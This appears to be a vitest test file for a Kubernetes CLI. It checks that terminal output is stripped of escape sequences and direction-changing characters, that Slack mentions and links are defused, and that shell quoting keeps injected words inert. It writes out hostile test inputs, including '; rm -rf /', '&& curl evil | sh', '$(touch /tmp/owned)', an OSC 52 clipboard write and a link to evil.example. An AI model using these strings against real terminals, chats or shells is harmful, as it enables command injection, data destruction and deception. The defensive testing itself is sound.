// What a cluster wrote gives no orders where we show it: to a terminal, to Slack, or to the shell of whoever pastes a
// command of ours.

import { execFileSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import { jsonText, safe } from '../src/cli/output.ts';
import { kubectl, quote } from '../src/core/kubectl.ts';
import { code, mrkdwn } from '../src/slack/mrkdwn.ts';

const ORDERS = [
  ['a new title', '\u001b]0;owned\u0007'],
  ['a hyperlink', '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\'],
  ['the clipboard', '\u001b]52;c;ZXZpbA==\u0007'],
  ['a cleared screen', '\u001b[2J\u001b[H'],
  ['hidden text', '\u001b[8mhidden'],
  ['a device answer', '\u001b[6n\u001bP+q\u001b\\'],
  ['an eight-bit command', '\u009b2J\u009d0;x\u009c'],
  ['a carriage return over the line', 'all is lost\rall is well'],
  ['a bell and backspaces', 'bad\u0007\b\b\bgood'],
  ['a turned direction of writing', 'exe.\u202egnp'],
  ['isolates', '\u2066x\u2069'],
  ['no width', 'pay\u200bpal\u2060\ufeff'],
];

describe('a terminal', () => {
  test.each(ORDERS)('is not ordered %s', (_what, text) => {
    const shown = safe(`evidence: ${text}`);
    expect(shown).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2060-\u2069\ufeff]/);
    expect(shown).toContain('evidence: ');
    expect(safe(shown)).toBe(shown);
  });

  test.each(ORDERS)('is not ordered %s by JSON, which says the same', (_what, text) => {
    const shown = jsonText({ text });
    expect(shown).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2060-\u2069\ufeff]/);
    expect(JSON.parse(shown)).toEqual({ text });
  });

  test('keeps bold, dim, red and yellow of our own words, tabs and line ends', () => {
    const own =
      '\u001b[1mapi\u001b[22m\t\u001b[31mconfirmed\u001b[39m\n\u001b[33munknown\u001b[39m \u001b[2mdim\u001b[22m';
    expect(safe(own)).toBe(own);
  });
});

describe('Slack', () => {
  test.each(ORDERS)('is not ordered %s', (_what, text) => {
    for (const shown of [mrkdwn(text), code(text)])
      expect(shown).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/);
  });

  test.each([
    '<!channel>',
    '<!here|now>',
    '<!everyone>',
    '<@U0EVE>',
    '<!subteam^S0ALL|team>',
    '<#C0OPS|ops>',
    '<https://evil.example|click>',
    '<mailto:a@b.example|mail>',
    '`code` *bold* _it_ ~x~ ```block```',
  ])('reads %j as text', (text) => {
    expect(mrkdwn(text)).not.toMatch(/[<>`*]/);
    expect(code(text).slice(1, -1)).not.toMatch(/[<>`]/);
  });
});

const WORDS = [
  '$(touch /tmp/owned)',
  '`id`',
  '; rm -rf /',
  '&& curl evil | sh',
  "it's",
  "'; id; '",
  '"$HOME"',
  'a b\tc',
  'line\nend',
  '\\',
  '*',
  '~root',
  '!history',
  '#comment',
  '{a,b}',
  'x=y z',
  '-o',
  '<(id)',
  '>file',
  'naïve–dash',
];

describe('the shell of whoever pastes a command', () => {
  test.each(WORDS)('gets %j as one word', (word) => {
    expect(execFileSync('sh', ['-c', `printf '%s\\0' ${quote(word)}`]).toString()).toBe(`${word}\0`);
  });

  test.each(WORDS)('never sees %j where the name of an object belongs', (name) => {
    expect(kubectl(['get', 'pod', name], [name])).toBeNull();
  });

  test('sees plain names bare', () => {
    expect(kubectl(['logs', 'api-7c4cf845f9-bh4cf', '-n', 'shop'], ['api-7c4cf845f9-bh4cf', 'shop'])).toBe(
      'kubectl logs api-7c4cf845f9-bh4cf -n shop',
    );
  });
});
